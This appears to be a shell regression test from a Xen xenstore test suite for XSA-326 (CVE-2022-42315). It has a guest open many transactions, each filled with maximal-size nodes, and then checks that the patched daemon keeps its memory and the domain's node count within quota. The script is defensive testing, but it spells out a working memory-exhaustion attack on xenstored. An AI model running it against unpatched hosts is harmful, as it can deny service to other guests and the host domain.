#!/bin/sh
# XSA-326 (CVE-2022-42315), attack 3 of 4: maximal nodes in many
# transactions.  A guest opens as many transactions as it may and in each
# creates as many nodes as it may, each with the longest path and the
# biggest value allowed: every transaction holds its own copy of them
# until it ends.
# Xen's fix ("add memory accounting for nodes"): the nodes a domain's
# transactions hold are charged to its memory quota, like its committed
# ones.
# Must: while all the transactions are open, the daemon has grown by at
# most one memory quota (plus the slack); after their commits the guest
# owns no more nodes than its quota; dom0 and the neighbour are served.
. "$(dirname "$0")/lib.sh"
xsa_start
mkguest 2
as_guest busy 2 <<'S'
write data/busy 1
S
p=$(relpath 2030)/n
v=$(rep v 2000)
rss_base
rss_guard
{
	i=1
	while [ $i -le 12 ]; do echo txstart; i=$((i + 1)); done
	i=1
	while [ $i -le 10 ]; do
		echo "txsel $i"
		echo "repeat 1000 -u TIMEOUT write $p%d $v"
		i=$((i + 1))
	done
	echo "notx rm data/busy"
	echo "repeat 1000000 -u \"1\" notx read data/go"
	i=1
	while [ $i -le 10 ]; do echo "txsel $i"; echo "txend commit"; i=$((i + 1)); done
} >"$T/attack.txt"
XSA_TIMEOUT=2000 as_guest attack 2 <"$T/attack.txt" &
a=$!
bg_track $a
# It holds them until dom0 says go (it polls: a watch event could be
# dropped, its memory quota being full).
wait_gone /local/domain/2/data/busy $a attack
rss_check "nodes held by the transactions" 1
neighbour_ok "the transactions"
dom0 go <<'S'
write /local/domain/2/data/go 1
S
wait $a || fail "the attacker failed"
opened=$(grep -c '^txstart -> OK$' "$T/attack.out")
note "$opened transactions; $(sed -n 's/^repeat 1000 [^>]*-> //p' "$T/attack.out" | sort | uniq -c | tr -s ' \n' ' ')"
note "commits: $(answers attack "txend commit")"
[ "$opened" -le 11 ] || fail "$opened transactions open, over the quota of 10"
n=$(nodes "/local/domain/2/$p%d:1000")
note "$n of the nodes exist"
[ "$n" -le 1000 ] || fail "domain 2 owns $n nodes after the commits, over its quota of 1000"
xsa_finish
